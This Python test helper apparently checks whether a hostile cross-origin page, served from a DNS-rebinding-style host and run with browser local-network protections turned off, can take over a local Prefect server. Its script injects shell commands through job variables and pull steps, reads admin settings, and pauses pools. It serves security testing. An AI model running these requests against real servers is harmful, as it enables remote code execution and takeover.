"""A hostile web page: a script of another origin that tries to take over a Prefect server and to read the pages beside it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

HOST = (
    "evil.test"  # a name that the browser is made to find on this machine, as after DNS rebinding
)
# Chromium itself asks before a public page may reach this machine (Local Network Access); other
# browsers do not, so it is off here.
UNGUARDED = [
    f"--host-resolver-rules=MAP {HOST} 127.0.0.1",
    "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
]

# Every step is tried by itself, with and without the browser's credentials; what could be read is
# returned, else "refused".
SCRIPT = """
async (target) => {
  const seen = {};
  const shell = (marker) => [{ "prefect.deployments.steps.run_shell_script": { script: "touch " + marker } }];
  const scheduled = { state: { type: "SCHEDULED" }, parameters: { domain: "demo" } };
  const run = "/deployments/" + target.deployment + "/create_flow_run";
  for (const credentials of ["omit", "include"]) {
    const note = async (name, step) => {
      try { seen[name + ", " + credentials] = await step(); } catch (error) { seen[name + ", " + credentials] = "refused"; }
    };
    const read = (address) => fetch(address, { credentials }).then(async (answer) => answer.ok ? await answer.text() : "refused");
    const send = (method, path, body, type) => fetch(target.api + path, {
      method, body: JSON.stringify(body), credentials, headers: { "Content-Type": type || "application/json" },
    }).then(async (answer) => answer.ok ? "done " + await answer.text() : "refused");

    await note("list", () => send("POST", "/deployments/filter", {}));
    await note("list without preflight", () => send("POST", "/deployments/filter", {}, "text/plain"));
    await note("settings", () => read(target.api + "/admin/settings"));
    await note("pages", () => read(target.pages + "/"));
    await note("job variables", () => send("POST", run, { ...scheduled, job_variables: { command: "touch " + target.markers[0] } }));
    await note("pull steps", () => send("PATCH", "/deployments/" + target.deployment, { pull_steps: shell(target.markers[1]) }));
    await note("run", () => send("POST", run, scheduled));
    await note("run without preflight", () => send("POST", run, scheduled, "text/plain"));
    await note("pool", () => send("PATCH", "/work_pools/redial", { is_paused: true }));
    await note("automation", () => send("POST", "/automations/", { name: "theirs", trigger: {}, actions: [] }));
    await note("socket", () => new Promise((resolve) => {
      const socket = new WebSocket(target.api.replace("http", "ws") + "/events/out", "prefect");
      socket.onopen = () => resolve("open");
      socket.onerror = socket.onclose = () => resolve("refused");
    }));
  }
  return seen;
}
"""


def attack(page: Any, start: str, target: dict[str, Any]) -> dict[str, str]:
    """Open an attacker's page at the address `start` and return what its script could do.

    Args:
        page: a Playwright page of a browser started with `UNGUARDED`.
        start: where the page seems to come from; nothing is asked for there but the page itself.
        target: `api` and `pages` (addresses), `deployment` (an id), `markers` (two files to be
            made).
    """
    page.route(
        start,
        lambda route: route.fulfill(
            status=200, content_type="text/html", body="<!doctype html><title>hello</title>"
        ),
    )
    page.goto(start)
    found: dict[str, str] = page.evaluate(SCRIPT, json.loads(json.dumps(target, default=str)))
    return found


def markers(folder: Path) -> list[Path]:
    """Return the files that an attack would make."""
    return [folder / "by-job-variables", folder / "by-pull-steps"]
